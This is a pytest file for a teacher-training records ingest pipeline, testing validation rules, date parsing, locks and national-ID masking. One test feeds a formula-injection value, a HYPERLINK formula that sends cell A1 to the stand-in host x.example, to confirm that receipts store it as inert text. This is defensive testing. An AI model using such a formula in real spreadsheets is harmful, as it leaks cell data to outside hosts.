"""Row rules (C, A, W) on uploads nobody has seen, built from the spec, through the real ingest path."""

from __future__ import annotations

import json
import random
import re
import zipfile
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from inservice.ingest import ingest_paths
from inservice.warehouse import checks
from inservice.warehouse.store import Warehouse
from tests.builders import attendee, course, make_id, write_xls, write_xlsx

pytestmark = pytest.mark.both_backends  # tests reaching a warehouse run on each of --backends

RNG = random.Random(7)
IDS = [make_id(RNG) for _ in range(20)]
RECEIVED = "2017-06-03T10:00:00+08:00"


def send(settings, courses, attendance, name="T001_201705.xlsx", received=RECEIVED, unit="T001") -> dict:
    path = write_xlsx(settings.inbox / unit / name, courses, attendance)
    [receipt] = ingest_paths([path], settings, received)
    return receipt


def rules_of(receipt: dict, record: str, row: int) -> set[tuple[str, str | None]]:
    return {(f["rule"], f["field"]) for f in receipt["findings"] if f["record"] == record and f["row"] == row}


def test_clean_upload_loads_every_row(settings) -> None:
    r = send(settings, [course("C1"), course("C2")], [attendee("C1", IDS[0]), attendee("C2", IDS[0])])
    assert r["status"] == "loaded" and r["findings"] == []
    assert r["courses"] == {"received": 2, "accepted": 2, "rejected": 0}
    assert r["attendance"] == {"received": 2, "accepted": 2, "rejected": 0}


@pytest.mark.parametrize("field", ["course_code", "title", "organizer", "organizer_type", "county_code",
                                   "start_date", "end_date", "hours", "class_type", "category", "delivery",
                                   "time_slot", "audience"])
def test_c01_required_course_field_missing(settings, field: str) -> None:
    r = send(settings, [course("C1"), course("C2", **{field: "　 "})], [attendee("C1", IDS[0])])
    assert ("C01", field) in rules_of(r, "course", 3)
    assert r["courses"]["accepted"] == 1


@pytest.mark.parametrize(("field", "value"), [
    ("start_date", "106/02/30"), ("start_date", "2017/05/10"), ("start_date", "20170510"),
    ("title", "研" * 201), ("organizer", "x" * 101), ("course_code", "A 1"), ("course_code", "A" * 21),
    ("hours", "1,000"), ("hours", "6.25"), ("hours", "六"), ("closed_date", "明天"),
])
def test_c02_unparseable_or_too_long(settings, field: str, value: str) -> None:
    r = send(settings, [course("C1"), course("C2", **{field: value})], [])
    assert ("C02", field) in rules_of(r, "course", 3)


@pytest.mark.parametrize(("field", "value"), [
    ("county_code", "99999"), ("audience", "E;Z"), ("class_type", "4"),
    ("category", "G"), ("organizer_type", "8"), ("delivery", "7"), ("time_slot", "0"),
])
def test_c03_code_not_in_list(settings, field: str, value: str) -> None:
    r = send(settings, [course("C1"), course("C2", **{field: value})], [])
    assert rules_of(r, "course", 3) == {("C03", field)}


def test_c04_c05_hours_and_dates(settings) -> None:
    r = send(settings, [
        course("C1", start_date="2017-05-10", end_date="2017-05-09"),
        course("C2", hours="0"),
        course("C3", hours="1000"),
        course("C4", hours="12.5"),  # one day of class type 1: at most 12
        course("C5", hours="12.5", class_type="2"),  # degree programme: no daily cap
        course("C6", hours="24", end_date="2017-05-11"),  # two days: 24 allowed
    ], [])
    assert rules_of(r, "course", 2) == {("C04", "end_date")}
    assert rules_of(r, "course", 3) == {("C05", "hours")}
    assert rules_of(r, "course", 4) == {("C05", "hours")}
    assert rules_of(r, "course", 5) == {("C05", "hours")}
    assert rules_of(r, "course", 6) == set()
    assert rules_of(r, "course", 7) == set()


def test_c06_first_course_row_kept(settings) -> None:
    r = send(settings, [course("C1"), course("C1", title="另一個")], [attendee("C1", IDS[0])])
    assert rules_of(r, "course", 2) == set()
    assert rules_of(r, "course", 3) == {("C06", "course_code")}
    assert r["attendance"]["accepted"] == 1
    with Warehouse(settings, read_only=True) as wh:
        assert wh.con.execute("SELECT title FROM courses").fetchall() == [("素養導向教學設計工作坊C1",)]


def test_c07_archive_cutoff_and_exceptions(settings) -> None:
    rows = [course("OLD", start_date="2012-12-31", end_date="2012-12-31", closed_date="2013-01-02"),
            course("NEW", start_date="2013-01-01", end_date="2013-01-01", closed_date="2013-01-02")]
    att = [attendee("OLD", IDS[0]), attendee("NEW", IDS[0])]
    r = send(settings, rows, att)
    assert rules_of(r, "course", 2) == {("C07", "start_date")}
    assert rules_of(r, "course", 3) == set()
    assert rules_of(r, "attendance", 2) == {("A05", None)}
    with Warehouse(settings) as wh:  # an exception for another course changes nothing
        wh.add_exception("T001", "OTHER", "府教字第1號", date(2017, 1, 1), date(2017, 12, 31))
    r = send(settings, rows, att, name="T001_201705_2.xlsx")
    assert ("C07", "start_date") in rules_of(r, "course", 2)
    with Warehouse(settings) as wh:  # an expired one neither
        wh.add_exception("T001", "OLD", "府教字第2號", date(2016, 1, 1), date(2017, 6, 2))
    r = send(settings, rows, att, name="T001_201705_3.xlsx")
    assert ("C07", "start_date") in rules_of(r, "course", 2)
    with Warehouse(settings) as wh:
        wh.add_exception("T001", None, "府教字第3號", date(2017, 1, 1), date(2017, 12, 31))
    r = send(settings, rows, att, name="T001_201705_4.xlsx")
    # admitted; its tag T2 is valid from 2013-01-01 only (spec 1.1 §3.8): dropped with W06, the row loads
    assert rules_of(r, "course", 2) == {("W06", "tags")} and r["courses"]["accepted"] == 2


def test_c07_cutoff_is_configurable(settings, monkeypatch) -> None:
    monkeypatch.setenv("INSERVICE_ARCHIVE_CUTOFF", "2014-12-31")
    from inservice.config import Settings

    s = Settings.from_env(settings.home)
    path = write_xlsx(s.inbox / "T001" / "T001_201705.xlsx",
                      [course("C1", start_date="2014-06-01", end_date="2014-06-01", closed_date="2014-06-02")], [])
    [r] = ingest_paths([path], s, RECEIVED)
    assert rules_of(r, "course", 2) == {("C07", "start_date")}


def test_c09_c10_closed_date(settings) -> None:
    r = send(settings, [course("C1", closed_date="2017-05-09"), course("C2", closed_date="2017-06-04"),
                        course("C3", closed_date=None), course("C4", closed_date="2017-06-03")], [])
    assert rules_of(r, "course", 2) == {("C09", "closed_date")}
    assert rules_of(r, "course", 3) == {("C09", "closed_date"), ("W03", "closed_date")}
    assert rules_of(r, "course", 4) == {("C10", "closed_date")}
    assert rules_of(r, "course", 5) == {("W03", "closed_date")}  # 24 days after the end


def test_w01_w02_w03(settings) -> None:
    r = send(settings, [
        course("C1", title="106學年度第1次校務會議"),
        course("C2", title="行政會議暨課程領導研習"),
        course("C3", title="期末"),
        course("C4", closed_date="2017-05-17"),  # 7 days after: fine
        course("C5", closed_date="2017-05-18"),  # 8 days after: W03
    ], [])
    assert rules_of(r, "course", 2) == {("W01", "title"), ("W02", "title")}
    assert rules_of(r, "course", 3) == {("W01", "title")}
    assert rules_of(r, "course", 4) == set()
    assert rules_of(r, "course", 5) == set()
    assert rules_of(r, "course", 6) == {("W03", "closed_date")}
    assert r["courses"]["accepted"] == 5  # warnings do not refuse


def test_c08_a08_locks(settings) -> None:
    first = send(settings, [course("C1")], [attendee("C1", IDS[0]), attendee("C1", IDS[1])])
    assert first["status"] == "loaded"
    # identical content in another file (rows in another order, so not byte-identical): a no-op
    same = send(settings, [course("C1")], [attendee("C1", IDS[1]), attendee("C1", IDS[0])],
                name="T001_201705_2.xlsx")
    assert same["findings"] == [] and same["merge"] == {
        "courses_inserted": 0, "courses_updated": 0, "attendance_inserted": 0, "attendance_updated": 0,
        "courses_withdrawn": 0, "attendance_withdrawn": 0}
    # the course is closed in the warehouse: a changed title is C08, its rows A05
    changed = send(settings, [course("C1", title="改過的名稱")], [attendee("C1", IDS[0])], name="T001_201706.xlsx")
    assert rules_of(changed, "course", 2) == {("C08", None)}
    assert rules_of(changed, "attendance", 2) == {("A05", None)}
    # unchanged course, but a new teacher or changed hours: A08
    more = send(settings, [course("C1")], [attendee("C1", IDS[0]), attendee("C1", IDS[2]),
                                            attendee("C1", IDS[1], hours_granted="5")], name="T001_201706_2.xlsx")
    assert rules_of(more, "attendance", 2) == set()
    assert rules_of(more, "attendance", 3) == {("A08", None)}
    assert rules_of(more, "attendance", 4) == {("A08", None)}
    # attendance alone for a locked course already in the warehouse
    alone = send(settings, [], [attendee("C1", IDS[3])], name="T001_201706_3.xlsx")
    assert rules_of(alone, "attendance", 2) == {("A08", None)}
    with Warehouse(settings, read_only=True) as wh:
        assert wh.con.execute("SELECT title FROM courses").fetchall() == [("素養導向教學設計工作坊C1",)]
        assert wh.con.execute("SELECT count(*) FROM attendance").fetchone()[0] == 2


def test_attendance_rules(settings) -> None:
    resident_new, resident_old = make_id(RNG, "new_resident"), make_id(RNG, "old_resident")
    bad_checksum = IDS[5][:-1] + str((int(IDS[5][-1]) + 1) % 10)
    r = send(settings, [course("C1"), course("BAD", county_code="99999")], [
        attendee("C1", IDS[0]),                                  # 2 ok
        attendee("C1", IDS[1], name=None),                       # 3 A01 name
        attendee("C1", IDS[2], hours_granted="三小時"),           # 4 A02
        attendee("C1", IDS[3], completed="也許"),                 # 5 A02
        attendee("C1", IDS[4], school_code="12AB"),              # 6 A02
        attendee("C1", bad_checksum),                            # 7 A03
        attendee("NOPE", IDS[6]),                                # 8 A04
        attendee("BAD", IDS[7]),                                 # 9 A05
        attendee("C1", IDS[8], hours_granted="0"),               # 10 A06 completed, no hours
        attendee("C1", IDS[9], hours_granted="7"),               # 11 A06 above the course's 6
        attendee("C1", IDS[10], completed="N", hours_granted="2"),  # 12 A06 not completed, hours
        attendee("C1", IDS[0]),                                  # 13 A07 repeated teacher
        attendee("C1", IDS[11], school_code="ZZZ999"),           # 14 W04
        attendee("C1", resident_new),                            # 15 ok
        attendee("C1", resident_old),                            # 16 ok
        attendee("C1", IDS[12].lower(), completed="否", hours_granted="0"),  # 17 ok: upper-cased, 否 with 0
    ])
    expect = {2: set(), 3: {("A01", "name")}, 4: {("A02", "hours_granted")}, 5: {("A02", "completed")},
              6: {("A02", "school_code")}, 7: {("A03", "national_id")}, 8: {("A04", "course_code")},
              9: {("A05", None)}, 10: {("A06", "hours_granted")}, 11: {("A06", "hours_granted")},
              12: {("A06", "hours_granted")}, 13: {("A07", None)}, 14: {("W04", "school_code")},
              15: set(), 16: set(), 17: set()}
    for row, rules in expect.items():
        assert rules_of(r, "attendance", row) == rules, row
    assert r["attendance"]["accepted"] == 5
    a03 = next(f for f in r["findings"] if f["rule"] == "A03")
    assert bad_checksum not in a03["message_zh"] and bad_checksum[:3] + "*****" in a03["message_zh"]


def test_w05_other_session_in_upload_and_warehouse(settings) -> None:
    same = {"title": "同名研習", "organizer": "臺北市教師研習中心"}
    sessions = [course("S1", start_date="2017-05-10", end_date="2017-05-11", hours="12", **same),
                course("S2", start_date="2017-05-11", end_date="2017-05-11", hours="6", **same),
                course("S3", start_date="2017-05-20", end_date="2017-05-20", hours="6", closed_date="2017-05-21",
                       **same)]
    r = send(settings, sessions, [attendee("S1", IDS[0]), attendee("S2", IDS[0]), attendee("S3", IDS[0]),
                                  attendee("S2", IDS[1])])
    assert rules_of(r, "attendance", 2) == {("W05", None)}
    assert rules_of(r, "attendance", 3) == {("W05", None)}
    assert rules_of(r, "attendance", 4) == set()  # no overlap
    assert rules_of(r, "attendance", 5) == set()  # another teacher
    later = send(settings, [course("S4", start_date="2017-05-11", end_date="2017-05-11", **same)],
                 [attendee("S4", IDS[1])], name="T001_201705_2.xlsx")
    assert rules_of(later, "attendance", 2) == {("W05", None)}
    # the look-up reads the warehouse's sessions within the upload's span of the pair, edges included
    edge = send(settings, [course(c, start_date=d0, end_date=d1, closed_date="2017-05-23", **same)
                           for c, d0, d1 in (("S5", "2017-05-20", "2017-05-20"), ("S6", "2017-05-21", "2017-05-22"))],
                [attendee("S5", IDS[0]), attendee("S6", IDS[0])], name="T001_201705_3.xlsx")
    assert rules_of(edge, "attendance", 2) == {("W05", None)}  # S3, in the warehouse, the same day
    assert rules_of(edge, "attendance", 3) == set()  # nothing of this teacher's overlaps 05-21..22


def test_value_formats(settings) -> None:
    """Every value format of spec §2.3."""
    forms = {
        "2017-05-10": "2017-05-10", "106/05/10": "2017-05-10", "106-05-10": "2017-05-10",
        "106.05.10": "2017-05-10", "1060510": "2017-05-10", "１０６／０５／１０": "2017-05-10",
        "990105": "2010-01-05",
    }
    # the 2010 course carries no tag: the tags are valid from 2013-01-01 (spec 1.1 §3.8), T2 would be W06
    rows = [course(f"D{i}", start_date=v, end_date=v, closed_date="2017-05-12" if v != "990105" else "2010-01-06",
                   tags="T2" if v != "990105" else None) for i, v in enumerate(forms)]
    rows.append(course("N1", start_date=date(2017, 5, 10), end_date=date(2017, 5, 10),
                       closed_date=date(2017, 5, 12), hours=6.5, county_code="台北市", audience="國小；國中",
                       tags="[教專評鑑];性別平等教育", class_type="非學分班", category="ａ"))
    att = [attendee("N1", IDS[i], completed=v, hours_granted="０" if v in ("N", "否", "0", "false") else "６.5")
           for i, v in enumerate(["Y", "是", "1", "TRUE", "y"])]
    att += [attendee("N1", IDS[10 + i], completed=v, hours_granted="0")
            for i, v in enumerate(["N", "否", "0", "False"])]
    with Warehouse(settings) as wh:  # 990105 is 2010: archived unless excepted
        wh.add_exception("T001", f"D{len(forms) - 1}", "府教字第9號", date(2017, 1, 1), date(2017, 12, 31))
    att.append(attendee("N1", "　" + IDS[15].lower() + " ", completed=True, hours_granted=6))
    r = send(settings, rows, att)
    assert r["findings"] == [], r["findings"]
    with Warehouse(settings, read_only=True) as wh:
        got = dict(wh.con.execute("SELECT course_code, CAST(start_date AS VARCHAR) FROM courses").fetchall())
        n1 = wh.con.execute("""SELECT county_code, audience, tags, class_type, category, CAST(hours AS FLOAT8)
                               FROM courses WHERE course_code = 'N1'""").fetchone()
        hours = wh.con.execute("""SELECT completed, CAST(hours_granted AS FLOAT8), count(*) FROM attendance
                                  GROUP BY 1, 2 ORDER BY 1, 2""").fetchall()
    assert [got[f"D{i}"] for i in range(len(forms))] == list(forms.values())
    assert n1 == ("63000", "E;J", "T1;T2", "1", "A", 6.5)
    assert hours == [(False, 0.0, 4), (True, 6.0, 1), (True, 6.5, 5)]


def test_headers_by_code_full_width_and_english_sheets(settings) -> None:
    path = write_xlsx(settings.inbox / "T001" / "T001_201705.xlsx", [course("C1")], [attendee("C1", IDS[0])],
                      by="code", sheet_names=("Courses", "ATTENDANCE"))
    [r] = ingest_paths([path], settings, RECEIVED)
    assert r["status"] == "loaded" and r["findings"] == []


def test_extra_column_is_ignored_with_a_warning(settings) -> None:
    r = send(settings, [course("C1", 備註="內部用")], [attendee("C1", IDS[0])])
    assert r["status"] == "loaded" and r["courses"]["accepted"] == 1
    [note] = [f for f in r["findings"] if f["record"] == "file"]
    assert note["severity"] == "warning" and "備註" in note["message_zh"]


def test_empty_rows_are_skipped_and_positions_kept(settings, tmp_path: Path) -> None:
    blank = {k: None for k in course("x")}
    r = send(settings, [course("C1"), blank, course("C2", title=None)], [])
    assert rules_of(r, "course", 4) == {("C01", "title")}
    assert r["courses"]["received"] == 2


def test_control_characters_are_unparseable_and_never_break_a_receipt(settings) -> None:
    """A value holding a control character (NUL included) is C02/A02, says so, and shows it as U+FFFD:
    the receipt workbook is written (openpyxl refuses control characters) and no warehouse table,
    on either backend, holds one (PostgreSQL text cannot hold NUL)."""
    r = send(settings, [course("C1", title="素養\x01導向"), course("C2", organizer="師大\x00"), course("C3"),
                        course("C4\x02", title="研習")],
             [attendee("C3", IDS[0], name="王\x07明"), attendee("C3", IDS[1], school_code="42360\x1f"),
              attendee("C3", IDS[2]), attendee("C3", IDS[3])])
    assert r["status"] == "loaded"
    assert rules_of(r, "course", 2) == {("C02", "title")}
    assert rules_of(r, "course", 3) == {("C02", "organizer")}
    assert rules_of(r, "course", 5) == {("C02", "course_code")}
    assert rules_of(r, "attendance", 2) == {("A02", "name")}
    assert rules_of(r, "attendance", 3) == {("A02", "school_code")}
    assert r["courses"]["accepted"] == 1 and r["attendance"]["accepted"] == 2
    by_row = {(f["record"], f["row"]): f for f in r["findings"] if f["row"]}
    title = by_row[("course", 2)]
    assert "「素養\ufffd導向」（含控制字元）" in title["message_zh"]
    assert "「素養\ufffd導向」 (holds a control character). text of at most 200" in title["message_en"]
    name = by_row[("attendance", 2)]  # the note, then what the field takes (schemas/messages.py)
    assert "：含控制字元。文字，最多 50 字" in name["message_zh"]
    assert "王" not in name["message_zh"] + name["message_en"]
    assert by_row[("course", 5)]["course_code"] == "C4\ufffd"
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
    receipt_file = json.loads(Path(r["receipt_files"][0]).read_text(encoding="utf-8"))
    assert receipt_file["findings"] == r["findings"]
    assert not any(control.search(f["message_zh"] + f["message_en"] + (f["course_code"] or ""))
                   for f in r["findings"])
    findings_sheet = load_workbook(r["receipt_files"][1], read_only=True)["檢核結果 Findings"]
    shown = [row[6] for row in findings_sheet.iter_rows(min_row=2, values_only=True)]
    assert any("「素養\ufffd導向」" in (m or "") for m in shown)
    with Warehouse(settings, read_only=True) as wh:
        assert wh.con.execute("SELECT course_code, title FROM courses").fetchall() == [("C3", course("C3")["title"])]
        stored = wh.con.execute("SELECT message_zh FROM findings WHERE rule = 'C02'").fetchall()
        assert stored and not any(control.search(m) or "素養" in m for (m,) in stored)  # no value quoted there


def test_values_typed_into_the_wrong_column_never_show_a_raw_id_nor_run_as_a_formula(settings) -> None:
    """An ID in another column is quoted masked (the analysts' `findings` stays free of raw IDs, and
    the blocking check passes); a value quoted from an .xls with U+FFFF leaves the receipt well-formed;
    a course code written like a formula is text in the receipt workbook, never a formula."""
    r = send(settings, [course("C1"), course('=HYPERLINK("http://x.example/?"&A1,"click")', title="研習")],
             [attendee("C1", IDS[4], school_code=IDS[5]), attendee(IDS[6], IDS[6])])
    raw = [IDS[5], IDS[6]]
    text = json.dumps(r, ensure_ascii=False) + Path(r["receipt_files"][0]).read_text(encoding="utf-8")
    assert not any(i in text for i in raw)
    assert f"「{IDS[5][:3]}*****{IDS[5][-2:]}」" in rules_msg(r, "attendance", 2)
    masked = f"{IDS[6][:3]}*****{IDS[6][-2:]}"
    assert {f["course_code"] for f in r["findings"] if (f["record"], f["row"]) == ("attendance", 3)} == {masked}
    sheet = load_workbook(r["receipt_files"][1])["檢核結果 Findings"]
    code_cells = [row[5] for row in sheet.iter_rows(min_row=2) if str(row[5].value or "").startswith("=")]
    assert code_cells and all(c.data_type == "s" for c in code_cells)
    with Warehouse(settings, read_only=True) as wh:
        passed, details = checks.raw_national_ids(wh.con)
        assert passed, details
    p = write_xls(settings.inbox / "T001" / "T001_201706.xls", [course("C1"), course("C2", hours="6\uffff")], [])
    [r] = ingest_paths([p], settings, RECEIVED)
    assert rules_of(r, "course", 3) == {("C02", "hours")} and "\uffff" not in rules_msg(r, "course", 3)
    with zipfile.ZipFile(r["receipt_files"][1]) as z:
        ElementTree.fromstring(z.read("xl/worksheets/sheet2.xml"))  # well-formed: Excel opens it


def rules_msg(receipt: dict, record: str, row: int) -> str:
    return " ".join(f["message_zh"] + f["message_en"] for f in receipt["findings"]
                    if f["record"] == record and f["row"] == row)


def test_a_national_id_in_any_other_field_is_refused_and_shown_masked(settings) -> None:
    """An ID-shaped token (checksum or not, full-width or lower case) in a text or code field other
    than the ID itself is C02/A02 "holds a national ID": it never loads, so it never reaches the
    analysts, the lake or a publication; the receipt shows it masked."""
    bad_checksum = IDS[3][:-1] + str((int(IDS[3][-1]) + 1) % 10)
    fullwidth_lower = "ａ" + IDS[2][1:].translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    r = send(settings, [course("C1", title=f"研習 {IDS[0]} 報告"), course(IDS[1], title="研習"),
                        course("C3", organizer=f"師大{fullwidth_lower}"), course("C4", title=f"課程{bad_checksum}"),
                        course("C5")],
             [attendee("C5", IDS[7]), attendee("C5", IDS[8], school_code=IDS[9]), attendee("C5", IDS[10],
                                                                                           name=IDS[11])])
    assert rules_of(r, "course", 2) == {("C02", "title")}
    assert rules_of(r, "course", 3) == {("C02", "course_code")}
    assert rules_of(r, "course", 4) == {("C02", "organizer")}
    assert rules_of(r, "course", 5) == {("C02", "title")}
    assert rules_of(r, "attendance", 3) == {("A02", "school_code")}
    assert rules_of(r, "attendance", 4) == set()  # a name is never stored nor quoted
    for record, row in (("course", 2), ("course", 3), ("course", 4), ("course", 5), ("attendance", 3)):
        assert "（含身分證字號）" in rules_msg(r, record, row) and "(holds a national ID)" in rules_msg(r, record, row)
    assert f"「研習 {IDS[0][:3]}*****{IDS[0][-2:]} 報告」" in rules_msg(r, "course", 2)
    text = json.dumps(r, ensure_ascii=False) + Path(r["receipt_files"][0]).read_text(encoding="utf-8")
    assert not any(i in text for i in (IDS[0], IDS[1], IDS[9], bad_checksum, fullwidth_lower))
    assert r["courses"]["accepted"] == 1 and r["attendance"]["accepted"] == 2
    with Warehouse(settings, read_only=True) as wh:
        assert wh.con.execute("SELECT course_code FROM courses").fetchall() == [("C5",)]
        passed, details = checks.raw_national_ids(wh.con)
        assert passed, details


def test_a_value_that_fails_its_rule_is_quoted_to_the_partner_only(settings) -> None:
    """陳大文 typed into the school-code and course-code columns: the partner's receipt quotes it (so
    the unit can find the cell), the analysts' `findings` (and their copy) say which row, field and
    rule, never the value."""
    r = send(settings, [course("C1"), course("陳大文課", title="研習")],
             [attendee("C1", IDS[0]), attendee("C1", IDS[1], school_code="陳大文")])
    assert rules_of(r, "attendance", 3) == {("A02", "school_code")}
    assert rules_of(r, "course", 3) == {("C02", "course_code")}
    assert "「陳大文」" in rules_msg(r, "attendance", 3)
    assert "陳大文" in Path(r["receipt_files"][0]).read_text(encoding="utf-8")
    book = load_workbook(r["receipt_files"][1], read_only=True)
    assert any("陳大文" in str(c) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row)
    with Warehouse(settings, read_only=True) as wh:
        stored = wh.con.execute("""SELECT record, "row", field, rule, course_code, message_zh, message_en
            FROM findings ORDER BY 1, 2""").fetchall()
    assert ("attendance", 3, "school_code", "A02", "C1") == stored[0][:5]
    assert "：「…」。6 碼" in stored[0][5] and ": 「…」. 6 digits" in stored[0][6]  # the hint stays, the value not
    assert ("course", 3, "course_code", "C02", "…") == stored[1][:5]
    assert "陳大文" not in repr(stored)
    if settings.warehouse is None:  # DuckDB: the analysts' copy is written from the warehouse
        from inservice.warehouse.analyst import snapshot_path

        assert "陳大文".encode() not in snapshot_path(settings).read_bytes()
